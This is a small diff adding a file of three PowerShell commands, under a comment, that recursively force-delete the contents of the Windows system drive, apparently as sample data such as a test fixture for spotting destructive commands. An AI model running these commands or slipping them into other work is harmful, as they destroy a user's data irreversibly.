@@ -0,0 +1,4 @@
+# Deletes the contents of the system drive, written three ways
+Remove-Item -Recurse -Force C:\
+ri -r -fo "$env:SystemDrive\*"
+rm -rf C:\*